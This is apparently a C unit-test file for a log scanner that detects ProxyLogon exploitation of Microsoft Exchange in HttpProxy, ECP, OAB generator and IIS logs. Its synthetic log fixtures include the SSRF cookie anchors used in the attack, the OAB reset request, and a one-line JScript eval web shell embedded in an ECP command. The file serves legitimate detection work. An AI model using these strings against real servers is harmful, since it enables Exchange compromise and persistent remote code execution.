/* ProxyLogon detectors on HttpProxy, ECP Server, OAB generator and IIS rows. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <string.h>

#include "memscan.h"
#include "parsers/csv.h"

#define HP_PLACE "c/program files/microsoft/exchange server/v15/logging/httpproxy/ecp/httpproxy_2021030306-1.log"
#define ECP_PLACE "e/exchange/v15/logging/ecp/server/ecpserver20210303-1.log"
#define OAB_PLACE "c/program files/microsoft/exchange server/v15/logging/oabgeneratorlog/oabgeneratorlog_20210303.log"
#define IIS_PLACE "c/inetpub/logs/logfiles/w3svc1/u_ex210303.log"
#define IIS2_PLACE "c/inetpub/logs/logfiles/w3svc2/u_ex210303.log"
#define IIS_HDR                                                                                    \
    "#Software: Microsoft Internet Information Services 10.0\r\n"                                 \
    "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "         \
    "cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n"

/* A 74-column HttpProxy row with the given values (others empty). */
static void hp_row(char *out, size_t cap, const char *time, const char *stem, const char *anchor,
                   const char *ua, const char *ip, const char *status, const char *method)
{
    /* DateTime(0) ... UrlStem(9) ... AnchorMailbox(15) UserAgent(16) ClientIpAddress(17)
     * ServerHostName(18) HttpStatus(19) ... Method(22) ... RoutingHint(27) */
    const char *v[74] = {0};
    v[0] = time;
    v[1] = "0b0b0b0b-1111-2222-3333-444444444444";
    v[2] = "15";
    v[3] = "1";
    v[4] = "2106";
    v[5] = "2";
    v[7] = "Ecp";
    v[8] = "mail.contoso.test";
    v[9] = stem;
    v[12] = "false";
    v[15] = anchor;
    v[16] = ua;
    v[17] = ip;
    v[18] = "EXCH01";
    v[19] = status;
    v[22] = method;
    v[27] = "X-BEResource-Cookie";
    size_t o = 0;
    for (int i = 0; i < 74; i++)
        o += (size_t)snprintf(out + o, cap - o, "%s%s", i ? "," : "", v[i] ? v[i] : "");
    snprintf(out + o, cap - o, "\r\n");
}

static char buf[65536];

static const char *hp_file(const char *rows)
{
    snprintf(buf, sizeof buf,
             "#Software: Microsoft Exchange Server\r\n#Version: 15.01.2106.002\r\n"
             "#Log-type: HttpProxy Logs\r\n#Date: 2021-03-03T06:00:00.000Z\r\n#Fields: %s\r\n%s",
             xs_csv_fields_httpproxy, rows);
    return buf;
}

static void test_26855_verdicts(void **st)
{
    (void)st;
    char rows[16384], r[2048];
    size_t o = 0;
    hp_row(r, sizeof r, "2021-03-03T06:49:42.162Z", "/ecp/y.js",
           "ServerInfo~a]@EXCH01.contoso.test:444/autodiscover/autodiscover.xml?#",
           "ExchangeServicesClient/0.0.0.0", "203.0.113.21", "200", "POST");
    o += (size_t)snprintf(rows + o, sizeof rows - o, "%s", r);
    hp_row(r, sizeof r, "2021-03-03T06:49:46.210Z", "/ecp/y.js",
           "ServerInfo~a]@EXCH01.contoso.test:444/ecp/proxyLogon.ecp?#", "python-requests/2.25.1",
           "203.0.113.21", "241", "POST");
    o += (size_t)snprintf(rows + o, sizeof rows - o, "%s", r);
    hp_row(r, sizeof r, "2021-03-03T06:59:20.359Z", "/ecp/y.js",
           "ServerInfo~a]@EXCH01.contoso.test:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=X.&schema=ResetOABVirtualDirectory#",
           "python-requests/2.25.1", "203.0.113.21", "200", "POST");
    o += (size_t)snprintf(rows + o, sizeof rows - o, "%s", r);
    hp_row(r, sizeof r, "2021-03-04T01:00:00.000Z", "/owa/auth/x.js", "ServerInfo~localhost/ecp/default.flt?",
           "Mozilla/5.0", "198.51.100.9", "500", "GET");
    o += (size_t)snprintf(rows + o, sizeof rows - o, "%s", r);
    hp_row(r, sizeof r, "2021-03-06T14:55:28.198Z", "/ecp/x.js", "ServerInfo~burpcollaborator.net/ecp/default.flt?",
           "Mozilla/5.0", "198.51.100.10", "200", "GET");
    o += (size_t)snprintf(rows + o, sizeof rows - o, "%s", r);
    /* benign: a normal anchor, and a ServerInfo~ without a path */
    hp_row(r, sizeof r, "2021-03-04T02:00:00.000Z", "/ecp/", "Smtp~admin@contoso.test", "Mozilla/5.0",
           "10.0.0.50", "200", "GET");
    o += (size_t)snprintf(rows + o, sizeof rows - o, "%s", r);
    hp_row(r, sizeof r, "2021-03-04T02:00:01.000Z", "/ecp/", "ServerInfo~EXCH01", "Mozilla/5.0",
           "10.0.0.50", "200", "GET");
    snprintf(rows + o, sizeof rows - o, "%s", r);

    exs_scan *s = t_scan_mem(HP_PLACE, hp_file(rows), -1);
    assert_string_equal(t_summary(s), "EXS-PL-26855-ATTEMPT attempt 203.0.113.21 6\n"
                                      "EXS-PL-26855-SSRF exploitation 203.0.113.21 7\n"
                                      "EXS-PL-26855-SSRF exploitation 203.0.113.21 8\n"
                                      "EXS-PL-27065-RESET exploitation 203.0.113.21 8\n"
                                      "EXS-PL-26855-PROBE probe 198.51.100.9 9\n"
                                      "EXS-PL-26855-PROBE probe 198.51.100.10 10");
    const exs_finding *f = t_find(s, "EXS-PL-26855-SSRF", 0);
    assert_string_equal(f->target, "a]@EXCH01.contoso.test:444/ecp/proxyLogon.ecp?#");
    assert_string_equal(exs_finding_fact(t_find(s, "EXS-PL-26855-SSRF", 1), "ecp_canary"), "X.");
    assert_string_equal(exs_finding_fact(f, "ssrf_host"), "EXCH01.contoso.test");
    assert_string_equal(exs_finding_fact(f, "ssrf_path"), "ecp/proxyLogon.ecp?#");
    assert_null(exs_finding_fact(f, "ecp_canary"));
    assert_string_equal(f->reason, "SSRF to a back-end path");
    assert_string_equal(t_find(s, "EXS-PL-26855-PROBE", 0)->reason,
                        "SSRF to localhost: a vulnerability scanner's check");
    assert_int_equal(f->http->status, 241);
    assert_string_equal(f->http->path, "/ecp/y.js");
    assert_string_equal(f->http->user_agent, "python-requests/2.25.1");
    assert_string_equal(f->origin.path, HP_PLACE);
    assert_int_equal(f->origin.nmembers, 0);
    assert_string_equal(f->origin.kind, "httpproxy");
    assert_int_equal(f->time_ms, 1614754186210LL);
    assert_int_equal(f->severity, EXS_SEV_CRITICAL);
    exs_scan_destroy(s);
}

static void test_26855_header_orders(void **st)
{
    (void)st;
    char r[2048], file[8192];
    hp_row(r, sizeof r, "2021-03-03T06:49:46.210Z", "/ecp/y.js",
           "ServerInfo~a]@EXCH01:444/mapi/emsmdb/?#", "python-requests/2.25.1", "203.0.113.21",
           "200", "POST");
    /* bare header line first, then the # block, then a BOM-less row */
    snprintf(file, sizeof file, "%s\r\n#Software: Microsoft Exchange Server\r\n#Fields: %s\r\n%s",
             xs_csv_fields_httpproxy, xs_csv_fields_httpproxy, r);
    exs_scan *s = t_scan_mem(HP_PLACE, file, -1);
    assert_string_equal(t_summary(s), "EXS-PL-26855-SSRF exploitation 203.0.113.21 4");
    exs_scan_destroy(s);
    /* no header at all: the default 74-column layout, found by location */
    s = t_scan_mem(HP_PLACE, r, -1);
    assert_string_equal(t_summary(s), "EXS-PL-26855-SSRF exploitation 203.0.113.21 1");
    exs_scan_destroy(s);
    /* a Test-ProxyLogon CSV export anywhere, columns by name */
    s = t_scan_mem("d/case/cve-2021-26855.csv",
                   "#TYPE Selected.System.Management.Automation.PSCustomObject\r\n"
                   "\"DateTime\",\"ClientIpAddress\",\"UrlStem\",\"AnchorMailbox\",\"HttpStatus\"\r\n"
                   "\"2021-03-03T06:49:43.699Z\",\"130.0.2.1\",\"/ecp/y.js\",\"ServerInfo~a]@x:444/mapi/emsmdb/?#\",\"200\"\r\n",
                   -1);
    assert_string_equal(t_summary(s), "EXS-PL-26855-SSRF exploitation 130.0.2.1 3");
    exs_scan_destroy(s);
}

/* Files read one after the other by one worker: the second reuses the first one's schema, the
 * third has the same names in another order and must be bound afresh, the fourth repeats the
 * first header as a bare line only. Each finding must carry its own row's address. */
static void test_schema_reuse_across_files(void **st)
{
    (void)st;
    char r1[2048], r2[2048], f1[8192], f2[8192], f3[8192], f4[8192];
    hp_row(r1, sizeof r1, "2021-03-03T06:49:46.210Z", "/ecp/y.js",
           "ServerInfo~a]@EXCH01:444/mapi/emsmdb/?#", "python-requests/2.25.1", "203.0.113.21",
           "200", "POST");
    hp_row(r2, sizeof r2, "2021-03-03T07:49:46.210Z", "/ecp/y.js",
           "ServerInfo~a]@EXCH01:444/mapi/emsmdb/?#", "python-requests/2.25.1", "203.0.113.22",
           "200", "POST");
    snprintf(f1, sizeof f1, "#Fields: %s\r\n%s", xs_csv_fields_httpproxy, r1);
    snprintf(f2, sizeof f2, "#Fields: %s\r\n%s", xs_csv_fields_httpproxy, r2);
    /* UserAgent (16) and ClientIpAddress (17) swapped in the header and in the row */
    char hdr[4096];
    snprintf(hdr, sizeof hdr, "%s", xs_csv_fields_httpproxy);
    char *ua = strstr(hdr, ",UserAgent,ClientIpAddress,");
    assert_non_null(ua);
    memcpy(ua, ",ClientIpAddress,UserAgent,", 27);
    char *py = strstr(r2, "python-requests/2.25.1,203.0.113.22,");
    assert_non_null(py);
    char swapped[2048];
    snprintf(swapped, sizeof swapped, "%.*s203.0.113.23,python-requests/2.25.1,%s",
             (int)(py - r2), r2, py + strlen("python-requests/2.25.1,203.0.113.22,"));
    snprintf(f3, sizeof f3, "#Fields: %s\r\n%s", hdr, swapped);
    snprintf(f4, sizeof f4, "%s\r\n%s", xs_csv_fields_httpproxy, r1);
    const char *places[] = {HP_PLACE, "c/program files/microsoft/exchange server/v15/logging/httpproxy/ecp/httpproxy_2021030307-1.log",
                            "c/program files/microsoft/exchange server/v15/logging/httpproxy/ecp/httpproxy_2021030308-1.log",
                            "c/program files/microsoft/exchange server/v15/logging/httpproxy/ecp/httpproxy_2021030309-1.log",
                            NULL};
    const char *texts[] = {f1, f2, f3, f4, NULL};
    exs_scan *s = t_scan_many(places, texts);
    /* in time order: the first and fourth files share a row time */
    assert_string_equal(t_summary(s), "EXS-PL-26855-SSRF exploitation 203.0.113.21 2\n"
                                      "EXS-PL-26855-SSRF exploitation 203.0.113.21 2\n"
                                      "EXS-PL-26855-SSRF exploitation 203.0.113.22 2\n"
                                      "EXS-PL-26855-SSRF exploitation 203.0.113.23 2");
    assert_string_equal(t_find(s, "EXS-PL-26855-SSRF", 3)->http->user_agent, "python-requests/2.25.1");
    exs_scan_destroy(s);
}

static void test_27065_ecp(void **st)
{
    (void)st;
    const char *log =
        "#Software: Microsoft Exchange Server\r\n#Log-type: ECP Server Log\r\n"
        "#Fields: TimeStamp,ServerName,EventId,EventData\r\n"
        /* 4: with S:URL (Test-ProxyLogon's full pattern) */
        "2021-03-03T06:49:53.772Z,EXCH01,ECP.Request,\"S:TIME=1;S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=\"\"JScript\"\" runat=\"\"server\"\">function Page_Load(){eval(Request[\"\"k\"\"],\"\"unsafe\"\");}</script>'.Identity='g';S:URL=/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=X&schema=OABVirtualDirectory\"\r\n"
        /* 5: without S:URL */
        "2021-03-03T06:59:17.960Z,EXCH01,ECP.Request,\"S:CMD=Set-OabVirtualDirectory.InternalUrl='http://f/<script>x</script>'\"\r\n"
        /* 6: admin change, no markup */
        "2021-03-04T10:00:00.000Z,EXCH01,ECP.Request,\"S:CMD=Set-OwaVirtualDirectory.ExternalUrl='https://mail.contoso.test/owa'\"\r\n"
        /* 7: markup, but not a virtual directory cmdlet */
        "2021-03-04T10:00:01.000Z,EXCH01,ECP.Request,\"S:CMD=Set-Mailbox.Notes='<b>x</b>';S:URL=/ecp/x?schema=VirtualDirectory\"\r\n";
    exs_scan *s = t_scan_mem(ECP_PLACE, log, -1);
    assert_string_equal(t_summary(s), "EXS-PL-27065-ECP exploitation - 4\nEXS-PL-27065-ECP exploitation - 5");
    assert_non_null(strstr(t_find(s, NULL, 0)->reason, "S:URL"));
    assert_string_equal(exs_finding_fact(t_find(s, NULL, 0), "ecp_canary"), "X");
    assert_null(strstr(t_find(s, NULL, 1)->reason, "S:URL"));
    assert_null(exs_finding_fact(t_find(s, NULL, 1), "ecp_canary"));
    assert_int_equal(t_find(s, NULL, 0)->time_ms, 1614754193772LL);
    exs_scan_destroy(s);
}

static void test_26858_oabgen(void **st)
{
    (void)st;
    const char *log =
        "2021-03-03T07:00:00.000Z,Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx' needs to be removed\r\n"
        "2021-03-03T07:00:01.000Z,Download failed and temporary file 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\a.tmp' needs to be removed\r\n"
        "2021-03-03T07:00:02.000Z,Download failed and temporary file 'E:\\Exchange\\V15\\ClientAccess\\OAB\\..\\..\\FrontEnd\\HttpProxy\\owa\\auth\\y.aspx' needs to be removed\r\n"
        "2021-03-03T07:00:03.000Z,Download failed and temporary file '\\\\198.51.100.5\\share\\z.aspx' needs to be removed\r\n";
    exs_scan *s = t_scan_mem(OAB_PLACE, log, -1);
    assert_string_equal(t_summary(s), "EXS-PL-26858-OABGEN exploitation - 1\n"
                                      "EXS-PL-26858-OABGEN exploitation - 3\n"
                                      "EXS-PL-26858-OABGEN exploitation - 4");
    /* the written file is the finding's subject; the log is its origin */
    assert_string_equal(t_find(s, NULL, 0)->file->path, "C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx");
    assert_null(t_find(s, NULL, 0)->target);
    exs_scan_destroy(s);
}

static void test_iis_carriers(void **st)
{
    (void)st;
    const char *log = IIS_HDR
        "2021-03-03 06:49:43 10.0.0.5 POST /ecp/y.js &CorrelationID=<empty>;&cafeReqId=5b0d9c3e-1111-4a2b-9c1d-0123456789ab; 443 - 203.0.113.21 python-requests/2.25.1 - 200 0 0 61\r\n"
        "2021-03-03 06:49:44 10.0.0.5 GET /ecp/main.css - 443 - 10.0.0.60 Mozilla/5.0+(Windows+NT+10.0) - 200 0 0 3\r\n"
        "2021-03-03 06:49:45 10.0.0.5 POST /ecp/default.flt - 443 - 203.0.113.22 Mozilla/5.0 - 404 0 0 3\r\n"
        "2021-03-03 06:49:46 10.0.0.5 POST /owa/auth/Current/themes/resources/logon.css - 443 - 203.0.113.23 DuckDuckBot/1.0;+(+http://duckduckgo.com/duckduckbot.html) - 200 0 0 3\r\n"
        "2021-03-03 06:49:47 10.0.0.5 POST /ecp/DDI/DDIService.svc/GetList schema=x 443 - 203.0.113.24 python-requests/2.25.1 - 200 0 0 3\r\n"
        "2021-03-03 06:49:48 10.0.0.5 POST /aspnet_client/system_web/a.aspx - 443 - 203.0.113.25 antSword/v2.1 - 200 0 0 3\r\n"
        "2021-03-03 06:49:49 10.0.0.5 POST /owa/auth/logon.aspx - 443 - 203.0.113.26 Mozilla/5.0+(compatible;+YandexBot/3.0;++http://yandex.com/bots) - 302 0 0 3\r\n";
    exs_scan *s = t_scan_mem(IIS_PLACE, log, -1);
    assert_string_equal(t_summary(s), "EXS-PL-IIS-CARRIER exploitation 203.0.113.21 3\n"
                                      "EXS-PL-IIS-CARRIER attempt 203.0.113.22 5\n"
                                      "EXS-PL-IIS-CARRIER exploitation 203.0.113.23 6\n"
                                      "EXS-PL-IIS-TOOLUA exploitation 203.0.113.24 7\n"
                                      "EXS-WS-ACCESS exploitation 203.0.113.25 8\n"
                                      "EXS-WS-UA exploitation 203.0.113.25 8\n"
                                      "EXS-PL-IIS-CRAWLERUA suspicious 203.0.113.26 9");
    assert_string_equal(t_find(s, "EXS-PL-IIS-CARRIER", 2)->http->user_agent,
                        "DuckDuckBot/1.0; ( http://duckduckgo.com/duckduckbot.html)"); /* IIS writes spaces as + */
    exs_scan_destroy(s);
}

static void test_27065_backend_iis(void **st)
{
    (void)st;
    const char *log = IIS_HDR
        "2021-03-03 06:59:20 10.0.0.5 POST /ecp/DDI/DDIService.svc/SetObject msExchEcpCanary=X&schema=ResetOABVirtualDirectory 444 CONTOSO\\EXCH01$ 10.0.0.5 python-requests/2.25.1 - 200 0 0 90\r\n"
        "2021-03-05 11:00:00 10.0.0.5 POST /ecp/DDI/DDIService.svc/SetObject msExchEcpCanary=Y&schema=ResetOABVirtualDirectory 444 CONTOSO\\admin 10.0.0.60 Mozilla/5.0 - 200 0 0 90\r\n";
    exs_scan *s = t_scan_mem(IIS2_PLACE, log, -1);
    assert_string_equal(t_summary(s), "EXS-PL-27065-IIS exploitation 10.0.0.5 3\n"
                                      "EXS-PL-27065-IIS suspicious 10.0.0.60 4");
    exs_scan_destroy(s);
}

static void test_loose_text(void **st)
{
    (void)st;
    const char *txt = "DateTime AnchorMailbox\n"
                      "2021-03-03T04:23:22.370Z ServerInfo~a]@EXC01.LOCAL:444/autodiscover/...\n"
                      "2021-03-03T06:44:34.294Z ServerInfo~a]@EXC01.LOCAL:444/mapi/emsmdb/?#\n"
                      "2021-03-06T10:36:34.479Z ServerInfo~localhost/owa/auth/logon.aspx?\n"
                      "\"2021-03-04T23:03:44.923Z\",\"ServerInfo~akak]@Testta  .domain.local:444/ecp/x\"\n"
                      "nothing to see\n";
    exs_scan *s = t_scan_mem("d/case/notes.txt", txt, -1);
    assert_string_equal(t_summary(s), "EXS-PL-26855-ATTEMPT attempt - 2\n"
                                      "EXS-PL-26855-SSRF exploitation - 3\n"
                                      "EXS-PL-26855-SSRF exploitation - 5\n"
                                      "EXS-PL-26855-PROBE probe - 4");
    assert_string_equal(t_find(s, "EXS-PL-26855-SSRF", 1)->target,
                        "akak]@Testta  .domain.local:444/ecp/x");
    exs_scan_destroy(s);
}

static void test_iis_owa_auth_probe(void **st)
{
    (void)st;
    const char *log = IIS_HDR
        /* 3: Microsoft's nmap check (its cookies are not logged by IIS), answered 500 */
        "2021-03-04 10:41:11 10.0.0.5 GET /owa/auth/x.js - 443 - 198.51.100.23 Mozilla/5.0+(compatible;+Nmap+Scripting+Engine;+https://nmap.org/book/nse.html) - 500 0 0 12\r\n"
        /* 4: nuclei's, another missing file */
        "2021-03-04 10:41:12 10.0.0.5 GET /owa/auth/y.css - 443 - 198.51.100.24 Mozilla/5.0 - 500 0 0 12\r\n"
        /* 5-8 benign: the missing file answered 404 (no SSRF cookie), a real resource and the
         * logon page answered 500 by a server in trouble, a POST is the carrier rule's */
        "2021-03-04 10:41:13 10.0.0.5 GET /owa/auth/x.js - 443 - 198.51.100.25 Mozilla/5.0 - 404 0 2 1\r\n"
        "2021-03-04 10:41:14 10.0.0.5 GET /owa/auth/15.1.2106/themes/resources/favicon.ico - 443 - 10.0.0.60 Mozilla/5.0 - 500 0 0 3\r\n"
        "2021-03-04 10:41:15 10.0.0.5 GET /owa/auth/logon.aspx replaceCurrent=1 443 - 10.0.0.60 Mozilla/5.0 - 500 0 0 3\r\n"
        "2021-03-04 10:41:16 10.0.0.5 GET /owa/auth/Current/themes/resources/logon.css - 443 - 10.0.0.60 Mozilla/5.0 - 500 0 0 3\r\n";
    exs_scan *s = t_scan_mem(IIS_PLACE, log, -1);
    assert_string_equal(t_summary(s), "EXS-PL-26855-IISPROBE probe 198.51.100.23 3\n"
                                      "EXS-PL-26855-IISPROBE probe 198.51.100.24 4");
    const exs_finding *f = t_find(s, NULL, 0);
    assert_int_equal(f->severity, EXS_SEV_LOW);
    assert_string_equal(f->rule->cves, "CVE-2021-26855");
    exs_scan_destroy(s);
}

static void test_27065_reset_anchor_ends(void **st)
{
    (void)st;
    char rows[16384], r[2048];
    size_t o = 0;
    static const char *const anchors[] = {
        /* 7: the public PoCs and Metasploit: "&a=~<n>" instead of '#' */
        "ServerInfo~a]@EXCH01.contoso.test:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=X.&a=~1942062522",
        /* 8: the same with the routing suffix taken off */
        "ServerInfo~a]@EXCH01.contoso.test:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=X.&a=",
        /* 9: the Set step (ExternalUrl in the body) is the SSRF, no reset */
        "ServerInfo~a]@EXCH01.contoso.test:444/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=X.&a=~1942062522",
    };
    for (size_t i = 0; i < 3; i++) {
        hp_row(r, sizeof r, "2021-03-03T06:59:20.359Z", "/ecp/y.js", anchors[i], "python-requests/2.25.1",
               "203.0.113.21", "200", "POST");
        o += (size_t)snprintf(rows + o, sizeof rows - o, "%s", r);
    }
    /* 10: a reset the back end refused */
    hp_row(r, sizeof r, "2021-03-03T06:59:21.359Z", "/ecp/y.js", anchors[1], "python-requests/2.25.1",
           "203.0.113.21", "500", "POST");
    snprintf(rows + o, sizeof rows - o, "%s", r);
    exs_scan *s = t_scan_mem(HP_PLACE, hp_file(rows), -1);
    assert_string_equal(t_summary(s), "EXS-PL-26855-SSRF exploitation 203.0.113.21 6\n"
                                      "EXS-PL-27065-RESET exploitation 203.0.113.21 6\n"
                                      "EXS-PL-26855-SSRF exploitation 203.0.113.21 7\n"
                                      "EXS-PL-27065-RESET exploitation 203.0.113.21 7\n"
                                      "EXS-PL-26855-SSRF exploitation 203.0.113.21 8\n"
                                      "EXS-PL-26855-SSRF exploitation 203.0.113.21 9");
    assert_int_equal(t_find(s, "EXS-PL-27065-RESET", 1)->severity, EXS_SEV_CRITICAL);
    exs_scan_destroy(s);
}

static void test_27065_backend_actor(void **st)
{
    (void)st;
    /* the computer account and SYSTEM are the exploit's; a person's reset in ECP is rated
     * below them */
    const char *log = IIS_HDR
        "2021-03-03 06:59:20 10.0.0.5 POST /ecp/DDI/DDIService.svc/SetObject msExchEcpCanary=X&schema=ResetOABVirtualDirectory 444 NT+AUTHORITY\\SYSTEM 10.0.0.5 python-requests/2.25.1 - 200 0 0 90\r\n"
        "2021-03-03 06:59:21 10.0.0.5 POST /ecp/DDI/DDIService.svc/SetObject msExchEcpCanary=X&schema=ResetOABVirtualDirectory 444 CONTOSO\\EXCH01$ 10.0.0.5 python-requests/2.25.1 - 500 0 0 90\r\n"
        "2021-03-05 11:00:00 10.0.0.5 POST /ecp/DDI/DDIService.svc/SetObject msExchEcpCanary=Y&schema=ResetOABVirtualDirectory 444 CONTOSO\\admin 10.0.0.60 Mozilla/5.0 - 200 0 0 90\r\n";
    exs_scan *s = t_scan_mem(IIS2_PLACE, log, -1);
    assert_string_equal(t_summary(s), "EXS-PL-27065-IIS exploitation 10.0.0.5 3\n"
                                      "EXS-PL-27065-IIS attempt 10.0.0.5 4\n"
                                      "EXS-PL-27065-IIS suspicious 10.0.0.60 5");
    assert_int_equal(t_find(s, NULL, 0)->severity, EXS_SEV_CRITICAL);
    assert_int_equal(t_find(s, NULL, 2)->severity, EXS_SEV_MEDIUM);
    exs_scan_destroy(s);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_26855_verdicts),  cmocka_unit_test(test_26855_header_orders),
        cmocka_unit_test(test_schema_reuse_across_files),
        cmocka_unit_test(test_27065_ecp),       cmocka_unit_test(test_26858_oabgen),
        cmocka_unit_test(test_iis_carriers),    cmocka_unit_test(test_27065_backend_iis),
        cmocka_unit_test(test_loose_text),      cmocka_unit_test(test_iis_owa_auth_probe),
        cmocka_unit_test(test_27065_reset_anchor_ends),
        cmocka_unit_test(test_27065_backend_actor),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
